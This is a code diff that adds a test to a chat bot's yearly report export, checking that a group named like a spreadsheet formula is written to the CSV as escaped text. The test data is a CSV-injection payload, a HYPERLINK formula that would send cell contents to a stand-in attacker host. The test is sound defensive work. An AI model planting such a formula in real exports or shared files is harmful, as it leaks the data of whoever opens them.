@@ -141,3 +141,16 @@ async def test_the_command_line_export(tmp_path: Path) -> None:
     rows = list(csv.DictReader((out / f"bilan-{YEAR}-indicateurs.csv").open(encoding="utf-8")))
     assert {r["indicator"]: r["value"] for r in rows if not r["key"]}["participants_year"] == "200"
     assert png_size((out / f"bilan-{YEAR}-graphique.png").read_bytes()) == (800, 700)
+
+
+async def test_a_formula_as_a_group_name_is_text_in_the_bilan(bot: Harness, tmp_path: Path) -> None:
+    """A group named like a spreadsheet formula: the bilan's CSV (from the chat and the command
+    line alike) holds it as text."""
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Voir le bilan")'
+    reply = await bot.reply_to(f"!projet creer {formula}")
+    assert "créé" in reply, reply
+    year = bot.clock.now().year
+    written = await export_bilan(bot.db, year, tmp_path / "out", Translator("fr"), "CCT", PARIS)
+    groups_csv = next(p for p in written if p.name.endswith("-groupes.csv"))
+    names = [row["name"] for row in csv.DictReader(groups_csv.open(encoding="utf-8"))]
+    assert names == ["'" + formula]
